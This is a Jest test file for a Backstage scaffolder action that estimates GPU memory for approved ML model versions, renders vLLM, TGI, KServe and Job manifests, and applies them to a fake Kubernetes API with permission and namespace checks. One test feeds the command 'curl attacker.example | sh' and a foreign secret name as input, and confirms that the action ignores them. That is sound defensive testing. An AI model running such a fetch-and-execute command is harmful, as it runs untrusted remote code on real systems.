import { mockServices } from '@backstage/backend-test-utils';
import { InputError, NotAllowedError } from '@backstage/errors';
import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
import fs from 'node:fs/promises';
import path from 'node:path';
import yaml from 'yaml';
import {
  COMMIT,
  LLAMA_CONFIG_JSON,
  approvedVersion,
  createFakeModelHubClient,
  fakePermissions,
  gpuConfig,
  gpuNode,
  llamaFiles,
  startFakeKubernetes,
} from './__fixtures__/fakes';
import { createGpuProvisionAction, workloadName } from './provisionGpu';

const baseInput = {
  modelRef: 'model:default/llama-3-8b-instruct',
  version: 'v1',
  runtime: 'vllm',
  gpuProfile: 'auto',
  replicas: 1,
  namespace: 'ml-serving',
  maxContextLength: 8192,
  maxBatchSize: 1,
  outputPath: 'manifests',
  apply: false,
};

function outputs(ctx: { output: unknown }) {
  return Object.fromEntries(
    (ctx.output as jest.Mock).mock.calls.map(([k, v]: [string, unknown]) => [
      k,
      v,
    ]),
  ) as Record<string, any>;
}

async function run(
  action: ReturnType<typeof createGpuProvisionAction>,
  input: Record<string, unknown>,
  extra: { isDryRun?: boolean } = {},
) {
  const logger = mockServices.logger.mock();
  const ctx = {
    ...createMockActionContext({
      input: { ...baseInput, ...input } as any,
      logger,
    }),
    ...extra,
  };
  await action.handler(ctx as any);
  return { ctx, logger, out: outputs(ctx) };
}

describe('model-hub:gpu:provision', () => {
  const client = createFakeModelHubClient();
  const action = createGpuProvisionAction({
    client,
    gpu: gpuConfig,
    permissions: fakePermissions(),
    clusters: [],
  });

  beforeEach(() => jest.clearAllMocks());

  it('estimates, picks a profile and writes vLLM manifests into the workspace', async () => {
    const { ctx, out } = await run(action, {});

    expect(client.getVersion).toHaveBeenCalledWith(
      { namespace: 'default', name: 'llama-3-8b-instruct', label: 'v1' },
      { credentials: expect.anything() },
    );
    expect(out.gpuProfile).toBe('l4-24gb');
    expect(out.gpuCount).toBe(1);
    expect(out.revision).toBe(COMMIT);
    expect(out.manifestPath).toBe('manifests/llama-3-8b-instruct-v1.yaml');
    expect(out.estimate).toMatchObject({
      source: 'checks',
      parameterCount: 8030261248,
      dtype: 'bf16',
      weightsGiB: 14.96,
      kvCacheGiB: 1,
      kvCacheBytesPerToken: 131072,
      runtime: 'vllm',
      totalGiB: 19.05,
    });
    expect(out.warnings).toEqual([]);

    const written = await fs.readFile(
      path.join(ctx.workspacePath, 'manifests/llama-3-8b-instruct-v1.yaml'),
      'utf8',
    );
    expect(written).toBe(out.manifests);
    const [deployment, service] = yaml
      .parseAllDocuments(written)
      .map(d => d.toJS());
    expect(out.objects).toEqual([deployment, service]);
    expect(deployment).toMatchObject({
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: {
        name: 'llama-3-8b-instruct-v1',
        namespace: 'ml-serving',
        annotations: {
          'model-hub.dev/model-ref': 'model:default/llama-3-8b-instruct',
          'model-hub.dev/revision': COMMIT,
        },
      },
      spec: { replicas: 1 },
    });
    const pod = deployment.spec.template.spec;
    expect(pod.nodeSelector).toEqual({
      'cloud.example.com/pool': 'l4',
      'nvidia.com/gpu.product': 'NVIDIA-L4',
    });
    expect(pod.tolerations).toEqual([
      { key: 'nvidia.com/gpu', operator: 'Exists', effect: 'NoSchedule' },
    ]);
    const container = pod.containers[0];
    expect(container.image).toBe(gpuConfig.images.vllm);
    expect(container.resources.limits).toEqual({ 'nvidia.com/gpu': '1' });
    expect(container.env).toContainEqual({
      name: 'HF_ENDPOINT',
      value: 'http://portal.example.com/api/model-hub/hf',
    });
    expect(container.env).toContainEqual({
      name: 'HF_TOKEN',
      valueFrom: {
        secretKeyRef: {
          name: 'model-hub-mirror-token',
          key: 'token',
          optional: true,
        },
      },
    });
    expect(container.args).toEqual(
      expect.arrayContaining([
        '--model',
        'default/llama-3-8b-instruct',
        '--revision',
        COMMIT,
        '--max-model-len',
        '8192',
        '--dtype',
        'bfloat16',
      ]),
    );
    expect(service).toMatchObject({
      apiVersion: 'v1',
      kind: 'Service',
      spec: { ports: [{ port: 80, targetPort: 'http' }] },
    });
  });

  it('supports dry-run: renders the manifests and applies nothing', async () => {
    const kube = await startFakeKubernetes({ nodes: [] });
    try {
      const dryAction = createGpuProvisionAction({
        client,
        gpu: gpuConfig,
        permissions: fakePermissions(),
        clusters: [
          {
            name: 'gpu-cluster',
            url: kube.url,
            serviceAccountToken: 'sa-token',
            skipTLSVerify: false,
          },
        ],
      });
      const { out, logger } = await run(
        dryAction,
        { apply: true },
        { isDryRun: true },
      );
      expect(out.manifests).toContain('kind: Deployment');
      expect(out.applied).toBeUndefined();
      expect(kube.requests).toEqual([]);
      expect(logger.info).toHaveBeenCalledWith(
        'Dry run: the manifests are not applied',
      );
    } finally {
      await kube.close();
    }
  });

  it('refuses a version that is not approved, with a clear error', async () => {
    const unapproved = createGpuProvisionAction({
      client: createFakeModelHubClient({
        'default/llama-3-8b-instruct@v2': {
          version: { ...approvedVersion, label: 'v2', state: 'in_review' },
        },
      }),
      gpu: gpuConfig,
      permissions: fakePermissions(),
      clusters: [],
    });
    await expect(run(unapproved, { version: 'v2' })).rejects.toThrow(
      new InputError(
        'Version v2 of model:default/llama-3-8b-instruct is in_review; only approved versions can be provisioned',
      ),
    );
  });

  it('refuses an approved version whose files no longer match its approval', async () => {
    const changed = createGpuProvisionAction({
      client: createFakeModelHubClient({
        'default/llama-3-8b-instruct@v1': {
          version: {
            ...approvedVersion,
            contentDigest: `sha256:${'d'.repeat(64)}`,
          },
        },
        'default/llama-3-8b-instruct@v2': {
          version: {
            ...approvedVersion,
            label: 'v2',
            approvedDigest: undefined,
          },
        },
      }),
      gpu: gpuConfig,
      permissions: fakePermissions(),
      clusters: [],
    });
    for (const version of ['v1', 'v2']) {
      await expect(run(changed, { version })).rejects.toThrow(
        new InputError(
          `The files of version ${version} of model:default/llama-3-8b-instruct do not match the content it was approved with; it cannot be provisioned`,
        ),
      );
    }
  });

  it('refuses an unknown version and a version that is not pinned', async () => {
    const unpinned = createGpuProvisionAction({
      client: createFakeModelHubClient({
        'default/llama-3-8b-instruct@v1': {
          version: { ...approvedVersion, resolvedCommit: undefined },
        },
      }),
      gpu: gpuConfig,
      permissions: fakePermissions(),
      clusters: [],
    });
    await expect(run(unpinned, {})).rejects.toThrow(
      'Version v1 of model:default/llama-3-8b-instruct is not pinned to a commit or manifest digest',
    );
    await expect(run(action, { version: 'v9' })).rejects.toThrow(
      'model:default/llama-3-8b-instruct has no version v9',
    );
    await expect(
      run(action, { modelRef: 'component:default/x' }),
    ).rejects.toThrow(
      'modelRef must be a Model entity, got component:default/x',
    );
  });

  it('fails with the estimate when no GPU profile fits', async () => {
    const big = createGpuProvisionAction({
      client: createFakeModelHubClient({
        'default/llama-3-70b@v1': {
          version: {
            ...approvedVersion,
            checks: [
              {
                name: 'safetensors',
                details: { parameterCount: 70.6e9, dtype: 'BF16' },
              },
            ],
          },
          files: [{ path: 'config.json', size: 1 }],
          configJson: JSON.stringify({
            num_hidden_layers: 80,
            num_attention_heads: 64,
            num_key_value_heads: 8,
            hidden_size: 8192,
          }),
        },
      }),
      gpu: gpuConfig,
      permissions: fakePermissions(),
      clusters: [],
    });
    await expect(
      run(big, {
        modelRef: 'model:default/llama-3-70b',
        gpuProfile: 'l4-24gb',
      }),
    ).rejects.toThrow(
      /^No GPU profile fits the estimate: weights 131\.5 GiB \(70\.60B params × 2 B \(bf16\)\) \+ KV cache 2\.5 GiB \(8192 tokens × batch 1\) \+ vllm overhead 10% \+ 1\.5 GiB per GPU = 148\.9 GiB on one GPU\. Tried l4-24gb \(24 GiB × up to 4\)/,
    );
  });

  it('estimates from weight file sizes without checks and serves a KServe InferenceService in int4', async () => {
    const noChecks = createFakeModelHubClient({
      'default/llama-3-8b-instruct@v1': {
        version: {
          ...approvedVersion,
          checks: undefined,
          resolvedCommit: undefined,
          manifestDigest: `sha256:${'c'.repeat(64)}`,
        },
        files: llamaFiles,
        configJson: LLAMA_CONFIG_JSON,
      },
    });
    const kserve = createGpuProvisionAction({
      client: noChecks,
      gpu: gpuConfig,
      permissions: fakePermissions(),
      clusters: [],
    });
    const { out } = await run(kserve, { runtime: 'kserve', dtype: 'int4' });
    // 16.06 GB of bf16 files = 8.03B params; int4 with group scales
    expect(out.estimate).toMatchObject({
      source: 'files',
      parameterCount: 8030278188,
      dtype: 'int4',
    });
    expect(out.revision).toBe(`sha256:${'c'.repeat(64)}`);
    const [isvc] = out.objects;
    expect(isvc).toMatchObject({
      apiVersion: 'serving.kserve.io/v1beta1',
      kind: 'InferenceService',
      spec: {
        predictor: {
          minReplicas: 1,
          nodeSelector: { 'nvidia.com/gpu.product': 'NVIDIA-L4' },
        },
      },
    });
    const container = isvc.spec.predictor.containers[0];
    expect(container.image).toBe('kserve/huggingfaceserver:v0.14.0');
    // the mirror serves digest-pinned versions by label; the digest is annotated
    expect(container.args).toContain('--model_revision=v1');
    expect(isvc.metadata.annotations['model-hub.dev/revision']).toBe(
      `sha256:${'c'.repeat(64)}`,
    );
    expect(container.resources.limits['nvidia.com/gpu']).toBe('1');

    const raw = createGpuProvisionAction({
      client: createFakeModelHubClient({
        'default/llama-3-8b-instruct@v1': {
          version: { ...approvedVersion, checks: undefined },
          files: llamaFiles.filter(f => f.path !== 'config.json'),
        },
      }),
      gpu: gpuConfig,
      permissions: fakePermissions(),
      clusters: [],
    });
    const { out: rawOut } = await run(raw, {});
    expect(rawOut.estimate).toMatchObject({
      source: 'files',
      parameterCount: null,
      weightsGiB: 14.96,
      kvCacheGiB: 0,
    });
    expect(rawOut.warnings).toEqual([
      'weights estimated from the size of the weight files',
      'no config.json with the attention shape: KV cache not estimated',
    ]);
  });

  it('reads the per-file safetensors checks of the review when the version has none', async () => {
    const reviewChecks = createFakeModelHubClient({
      'default/llama-3-8b-instruct@v1': {
        version: { ...approvedVersion, checks: undefined },
        files: llamaFiles,
        configJson: LLAMA_CONFIG_JSON,
        checks: [
          {
            name: 'inspect:format:safetensors:model-00001-of-00002.safetensors',
            status: 'pass',
            details: { parameterCount: 4e9, dtypes: { BF16: 4e9 } },
          },
          {
            name: 'inspect:format:safetensors:model-00002-of-00002.safetensors',
            status: 'pass',
            details: {
              parameterCount: '4030261248',
              dtypes: { BF16: '4030261248' },
            },
          },
        ],
      },
    });
    const withReview = createGpuProvisionAction({
      client: reviewChecks,
      gpu: gpuConfig,
      permissions: fakePermissions(),
      clusters: [],
    });
    const { out } = await run(withReview, {});
    expect(reviewChecks.listChecks).toHaveBeenCalledWith(
      { namespace: 'default', name: 'llama-3-8b-instruct', label: 'v1' },
      { credentials: expect.anything() },
    );
    expect(out.estimate).toMatchObject({
      source: 'checks',
      parameterCount: 8030261248,
      dtype: 'bf16',
    });
  });

  it('renders TGI and Job manifests', async () => {
    const { out: tgi } = await run(action, {
      runtime: 'tgi',
      replicas: 2,
      maxBatchSize: 4,
      name: 'assistant',
    });
    const [deployment] = tgi.objects;
    expect(deployment.metadata.name).toBe('assistant');
    expect(deployment.spec.replicas).toBe(2);
    expect(deployment.spec.template.spec.containers[0].env).toEqual(
      expect.arrayContaining([
        { name: 'MODEL_ID', value: 'default/llama-3-8b-instruct' },
        { name: 'REVISION', value: COMMIT },
        { name: 'NUM_SHARD', value: String(tgi.gpuCount) },
        { name: 'MAX_TOTAL_TOKENS', value: '8192' },
      ]),
    );

    // the job command comes from modelHub.gpu.deploy.commands; a command
    // in the template input is not used
    const { out: job } = await run(action, {
      runtime: 'job',
      command: ['sh', '-c', 'curl attacker.example | sh'],
      tokenSecretName: 'someone-elses-secret',
    });
    expect(job.objects).toHaveLength(1);
    expect(job.objects[0]).toMatchObject({
      apiVersion: 'batch/v1',
      kind: 'Job',
    });
    const jobContainer = job.objects[0].spec.template.spec.containers[0];
    expect(jobContainer.command).toEqual(['python3', 'batch.py']);
    expect(JSON.stringify(job.objects)).not.toContain('someone-elses-secret');
    expect(JSON.stringify(job.objects)).toContain('model-hub-mirror-token');
    expect(jobContainer.image).toBe('vllm/vllm-openai:v0.6.3');
    expect(job.objects[0].spec.template.spec.restartPolicy).toBe('Never');
  });

  it('makes DNS-1123 workload names', () => {
    expect(workloadName('Llama_3.1-8B', 'v1.0+rc1')).toBe(
      'llama-3-1-8b-v1-0-rc1',
    );
    expect(workloadName('x'.repeat(70), 'v1')).toHaveLength(63);
  });

  describe('apply: true against a fake Kubernetes API server', () => {
    const withCluster = (url: string, name = 'gpu-cluster') =>
      createGpuProvisionAction({
        client,
        gpu: gpuConfig,
        permissions: fakePermissions(),
        clusters: [
          { name: 'other', url: 'http://127.0.0.1:1', skipTLSVerify: false },
          { name, url, serviceAccountToken: 'sa-token', skipTLSVerify: false },
        ],
      });

    it('server-side applies every object with fieldManager model-hub', async () => {
      const kube = await startFakeKubernetes({
        nodes: [
          gpuNode(
            'l4-1',
            {
              'cloud.example.com/pool': 'l4',
              'nvidia.com/gpu.product': 'NVIDIA-L4',
              'nvidia.com/gpu.memory': '23034',
            },
            4,
          ),
        ],
      });
      try {
        const { out, logger } = await run(withCluster(kube.url), {
          apply: true,
          cluster: 'gpu-cluster',
        });
        expect(kube.requests.map(r => `${r.method} ${r.url}`)).toEqual([
          'GET /api/v1/nodes',
          'PATCH /apis/apps/v1/namespaces/ml-serving/deployments/llama-3-8b-instruct-v1?fieldManager=model-hub&force=true',
          'PATCH /api/v1/namespaces/ml-serving/services/llama-3-8b-instruct-v1?fieldManager=model-hub&force=true',
        ]);
        const patch = kube.requests[1];
        expect(patch.headers['content-type']).toBe(
          'application/apply-patch+yaml',
        );
        expect(yaml.parse(patch.body)).toEqual(out.objects[0]);
        expect(out.applied).toEqual([
          {
            apiVersion: 'apps/v1',
            kind: 'Deployment',
            namespace: 'ml-serving',
            name: 'llama-3-8b-instruct-v1',
            uid: 'uid-Deployment',
          },
          {
            apiVersion: 'v1',
            kind: 'Service',
            namespace: 'ml-serving',
            name: 'llama-3-8b-instruct-v1',
            uid: 'uid-Service',
          },
        ]);
        expect(out.warnings).toEqual([]);
        expect(logger.warn).not.toHaveBeenCalled();
      } finally {
        await kube.close();
      }
    });

    it('warns when no node has room for the GPUs', async () => {
      const kube = await startFakeKubernetes({
        nodes: [
          gpuNode(
            'l4-busy',
            {
              'cloud.example.com/pool': 'l4',
              'nvidia.com/gpu.product': 'NVIDIA-L4',
            },
            0,
          ),
          gpuNode('cpu-1', {}, 0),
        ],
      });
      try {
        const { out, logger } = await run(withCluster(kube.url), {
          apply: true,
          cluster: 'gpu-cluster',
        });
        const warning =
          'None of the 1 node(s) of cluster gpu-cluster matching cloud.example.com/pool=l4,nvidia.com/gpu.product=NVIDIA-L4 has 1 allocatable nvidia.com/gpu of 24 GiB';
        expect(out.warnings).toEqual([warning]);
        expect(logger.warn).toHaveBeenCalledWith(
          `${warning}; the pods may stay pending`,
        );
        expect(out.applied).toHaveLength(2);
      } finally {
        await kube.close();
      }
    });

    it('needs model-hub.deploy on the model, with the initiator credentials', async () => {
      const kube = await startFakeKubernetes({ nodes: [] });
      try {
        const denied = fakePermissions(false);
        const guarded = createGpuProvisionAction({
          client,
          gpu: gpuConfig,
          clusters: [
            {
              name: 'gpu-cluster',
              url: kube.url,
              serviceAccountToken: 'sa-token',
              skipTLSVerify: false,
            },
          ],
          permissions: denied,
        });
        await expect(
          run(guarded, { apply: true, cluster: 'gpu-cluster' }),
        ).rejects.toThrow(
          new NotAllowedError(
            'Not allowed: model-hub.deploy on model:default/llama-3-8b-instruct; rendering without apply needs read access only',
          ),
        );
        expect(denied.authorize).toHaveBeenCalledWith(
          [
            {
              permission: expect.objectContaining({
                name: 'model-hub.deploy',
                type: 'resource',
                resourceType: 'catalog-entity',
              }),
              resourceRef: 'model:default/llama-3-8b-instruct',
            },
          ],
          { credentials: expect.anything() },
        );
        expect(kube.requests).toEqual([]);

        // rendering and dry runs need read access only
        denied.authorize.mockClear();
        const { out } = await run(guarded, { apply: false });
        expect(out.manifests).toContain('kind: Deployment');
        const dry = await run(guarded, { apply: true }, { isDryRun: true });
        expect(dry.out.applied).toBeUndefined();
        expect(denied.authorize).not.toHaveBeenCalled();
        expect(kube.requests).toEqual([]);
      } finally {
        await kube.close();
      }
    });

    it('applies only to namespaces the config allows for the cluster and GPU profile', async () => {
      const kube = await startFakeKubernetes({ nodes: [] });
      try {
        const withDeploy = (deploy: Partial<typeof gpuConfig.deploy>) =>
          createGpuProvisionAction({
            client,
            gpu: { ...gpuConfig, deploy: { ...gpuConfig.deploy, ...deploy } },
            clusters: [
              {
                name: 'gpu-cluster',
                url: kube.url,
                serviceAccountToken: 'sa-token',
                skipTLSVerify: false,
              },
            ],
            permissions: fakePermissions(),
          });
        // a namespace the user typed that the cluster does not allow
        await expect(
          run(withDeploy({}), {
            apply: true,
            cluster: 'gpu-cluster',
            namespace: 'kube-system',
          }),
        ).rejects.toThrow(
          'Not applied: namespace kube-system is not allowed on cluster gpu-cluster (allowed: ml-serving, ml-batch)',
        );
        // the GPU profile's list applies too
        await expect(
          run(withDeploy({}), {
            apply: true,
            cluster: 'gpu-cluster',
            gpuProfile: 'a100-80gb',
            namespace: 'ml-serving',
          }),
        ).rejects.toThrow(
          'Not applied: namespace ml-serving is not allowed for GPU profile a100-80gb (allowed: ml-batch)',
        );
        // nothing is allowed where nothing is listed
        await expect(
          run(withDeploy({ clusterNamespaces: {}, profileNamespaces: {} }), {
            apply: true,
            cluster: 'gpu-cluster',
          }),
        ).rejects.toThrow(
          'Not applied: no namespace is allowed on cluster gpu-cluster for GPU profile l4-24gb; list them in modelHub.gpu.deploy.namespaces',
        );
        expect(kube.requests).toEqual([]);
        const { out } = await run(withDeploy({}), {
          apply: true,
          cluster: 'gpu-cluster',
          gpuProfile: 'a100-80gb',
          namespace: 'ml-batch',
        });
        expect(out.applied).toHaveLength(2);
      } finally {
        await kube.close();
      }
    });

    it('fails with the API server message and for an unknown cluster', async () => {
      const kube = await startFakeKubernetes({ nodes: [], failApplyWith: 404 });
      try {
        await expect(
          run(withCluster(kube.url), { apply: true, cluster: 'gpu-cluster' }),
        ).rejects.toThrow(
          'Applying Deployment llama-3-8b-instruct-v1 on cluster gpu-cluster failed with HTTP 404: namespaces "ml-serving" not found',
        );
        await expect(
          run(withCluster(kube.url), { apply: true, cluster: 'nope' }),
        ).rejects.toThrow(
          'Unknown Kubernetes cluster nope; configured: other, gpu-cluster',
        );
      } finally {
        await kube.close();
      }
    });
  });
});
